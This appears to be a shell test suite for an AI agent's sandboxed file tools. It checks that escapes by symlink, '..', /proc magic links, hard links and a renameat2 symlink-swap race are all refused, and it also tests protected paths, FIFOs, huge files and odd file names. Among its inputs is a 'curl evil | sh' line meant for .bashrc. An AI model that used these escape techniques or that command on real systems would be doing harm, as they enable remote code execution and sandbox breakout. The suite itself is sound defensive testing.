#!/usr/bin/env bash
# Hostile workspaces for the file tools (Read/Write/Edit through
# `cordon tool`): escapes by symlink, '..', magic links and hard links,
# special files that would hang or flood a reader, huge files and
# directories, and file names that are not plain text. Every call runs
# under `timeout` so a hang fails the test instead of stalling the suite.
. "$ROOT/tests/lib.sh"

base=$(mktemp -d /tmp/cordon-hostile-XXXXXX)
trap 'rm -rf "$base"' EXIT
ws=$base/ws
mkdir -p "$ws/sub"
echo "outside secret" >"$base/outside.txt"

# tool NAME JSON: run one call; sets OUT and RC.
tool() {
	OUT=$(timeout 20 "$CORDON" tool --workspace "$ws" --output-dir "$base/out" "$1" "$2" 2>&1)
	RC=$?
}

# --- escapes ---------------------------------------------------------------
tool Read "{\"file_path\": \"../outside.txt\"}"
t_eq "Read ../ outside the workspace fails" "$RC" 1
t_contains "Read ../ says outside" "$OUT" "outside the directories"

tool Read '{"file_path": "/etc/passwd"}'
t_eq "Read of an absolute path outside fails" "$RC" 1

tool Read '{"file_path": "/proc/self/root/etc/passwd"}'
t_eq "Read /proc/self/root/... fails" "$RC" 1

ln -s /etc/shadow "$ws/shadow"
tool Read '{"file_path": "shadow"}'
t_eq "Read through a symlink to /etc/shadow fails" "$RC" 1
t_contains "the symlink escape is named" "$OUT" "leads outside the allowed directories"
case $OUT in *root:*) t_fail "no shadow content leaked" "$OUT" ;; *) t_pass "no shadow content leaked" ;; esac

ln -s ../outside.txt "$ws/relout"
tool Read '{"file_path": "relout"}'
t_eq "Read through a relative symlink out fails" "$RC" 1

ln -s /proc/self/root "$ws/procroot"
tool Read '{"file_path": "procroot/etc/passwd"}'
t_eq "Read through a symlink to /proc/self/root fails" "$RC" 1

ln -s loop2 "$ws/loop1"
ln -s loop1 "$ws/loop2"
tool Read '{"file_path": "loop1"}'
t_eq "Read of a symlink loop fails (and returns)" "$RC" 1

tool Write '{"file_path": "shadow", "content": "pwned"}'
t_eq "Write to a symlink pointing out fails" "$RC" 1
t_eq "the symlink is still a symlink" "$(readlink "$ws/shadow")" /etc/shadow

ln -s "$base" "$ws/basedir"
tool Write '{"file_path": "basedir/planted.txt", "content": "x"}'
t_eq "Write through a symlinked directory fails" "$RC" 1
[ -e "$base/planted.txt" ] && t_fail "nothing was written outside" || t_pass "nothing was written outside"

# --- hard links ------------------------------------------------------------
ln "$base/outside.txt" "$ws/hard.txt"
printf '%s\n' '{"name":"Read","input":{"file_path":"hard.txt"}}' \
	'{"name":"Edit","input":{"file_path":"hard.txt","old_string":"secret","new_string":"INJECTED"}}' \
	'{"name":"Write","input":{"file_path":"hard.txt","content":"INJECTED"}}' |
	timeout 20 "$CORDON" tool --workspace "$ws" --stdin >"$base/hard.out"
t_contains "Edit of a hard-linked file is refused" "$(sed -n 2p "$base/hard.out")" "hard links"
t_contains "Write of a hard-linked file is refused" "$(sed -n 3p "$base/hard.out")" "hard links"
t_eq "the outside file is unchanged" "$(cat "$base/outside.txt")" "outside secret"

# --- protected paths ---------------------------------------------------------
mkdir -p "$ws/.git/hooks"
tool Write '{"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nid\n"}'
t_eq "Write into .git/hooks fails" "$RC" 1
t_contains "and says it is protected" "$OUT" "protected path"
tool Write '{"file_path": ".bashrc", "content": "curl evil | sh"}'
t_eq "Write of .bashrc fails" "$RC" 1

# --- special and huge files ------------------------------------------------
mkfifo "$ws/fifo"
start=$(date +%s)
tool Read '{"file_path": "fifo"}'
t_eq "Read of a FIFO fails" "$RC" 1
t_contains "and says it is not a regular file" "$OUT" "not a regular file"
t_eq "Read of a FIFO does not hang" "$(( $(date +%s) - start < 10 ))" 1

truncate -s 2G "$ws/sparse.bin.txt"
start=$(date +%s)
tool Read '{"file_path": "sparse.bin.txt"}'
t_eq "Read of a 2 GB file fails" "$RC" 1
t_contains "with the size limit message" "$OUT" "exceeds maximum allowed size (256KB)"
t_eq "Read of a 2 GB file is refused quickly" "$(( $(date +%s) - start < 5 ))" 1
start=$(date +%s)
tool Read '{"file_path": "sparse.bin.txt", "limit": 1}'
t_eq "a ranged Read of its one 2 GB line fails" "$RC" 1
t_contains "by the token cap" "$OUT" "more than"
t_eq "without scanning the whole file" "$(( $(date +%s) - start < 5 ))" 1

"$HELPERS/mkmany" "$ws/many" 200000
start=$(date +%s)
tool Read '{"file_path": "many"}'
t_eq "Read of a 200000-entry directory fails" "$RC" 1
t_contains "with EISDIR" "$OUT" "EISDIR"
tool Read '{"file_path": "many/nope.txt"}'
t_contains "a missing file in it is reported" "$OUT" "File does not exist"
t_eq "both return quickly" "$(( $(date +%s) - start < 10 ))" 1

# --- names that are not plain text ------------------------------------------
printf 'nl content\n' >"$ws/a
b.txt"
tool Read '{"file_path": "a\nb.txt"}'
t_eq "Read of a name with a newline works" "$RC" 0
t_contains "and shows its content" "$OUT" "nl content"
tool Write '{"file_path": "c\nd.txt", "content": "made\n"}'
t_eq "Write of a name with a newline works" "$RC" 0
t_eq "and writes that name" "$(cat "$ws/c
d.txt")" "made"
printf 'x\n' >"$ws/$(printf 'bad.\xff')"
OUT=$(printf '%s\n' '{"name":"Read","input":{"file_path":"bad.txt"}}' |
	timeout 20 "$CORDON" tool --workspace "$ws" --stdin)
t_contains "a suggestion with invalid UTF-8 still comes back" "$OUT" "Did you mean"
if printf '%s' "$OUT" | python3 -c 'import json,sys; json.loads(sys.stdin.read())' 2>/dev/null; then
	t_pass "the result is valid JSON"
else
	t_fail "the result is valid JSON" "$OUT"
fi
printf 'bytes \xfe\xff here\n' >"$ws/invalid.txt"
tool Read '{"file_path": "invalid.txt"}'
t_contains "invalid UTF-8 content is shown with U+FFFD" "$OUT" "bytes ��"

# --- symlink-swap race (FS10): flip/ is exchanged atomically, over and over,
# between a real directory and a symlink to a directory outside.
mkdir -p "$base/target" "$ws/flip"
ln -s "$base/target" "$ws/flipalt"
python3 - "$ws/flip" "$ws/flipalt" "$base/stop" 2>/dev/null <<'PY' &
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
a, b, stop = (x.encode() for x in sys.argv[1:])
for _ in range(2000000):
    if os.path.exists(stop):
        break
    libc.renameat2(-100, a, -100, b, 2)  # RENAME_EXCHANGE
PY
racer=$!
for i in $(seq 1 30); do
	printf '{"name":"Write","input":{"file_path":"flip/f%d.txt","content":"x"}}\n' "$i"
done | timeout 60 "$CORDON" tool --workspace "$ws" --stdin >"$base/race.out"
touch "$base/stop"
wait "$racer" 2>/dev/null
t_eq "a racing symlink swap never gets a write outside" "$(ls "$base/target" | wc -l)" 0
t_eq "every raced call got an answer" "$(wc -l <"$base/race.out")" 30
echo "# race: $(grep -c 'created' "$base/race.out") writes landed inside, $(grep -c '"is_error":true' "$base/race.out") refused"

# --- atomicity: the temp file never lingers --------------------------------
printf '%s\n' '{"name":"Write","input":{"file_path":"atom.txt","content":"one\n"}}' \
	'{"name":"Edit","input":{"file_path":"atom.txt","old_string":"one","new_string":"two"}}' |
	timeout 20 "$CORDON" tool --workspace "$ws" --stdin >/dev/null
t_eq "Write then Edit without Read works (created file)" "$(cat "$ws/atom.txt")" "two"
t_eq "no temp files left behind" "$(find "$ws" -name '.cordon-tmp-*' | wc -l)" 0

t_done
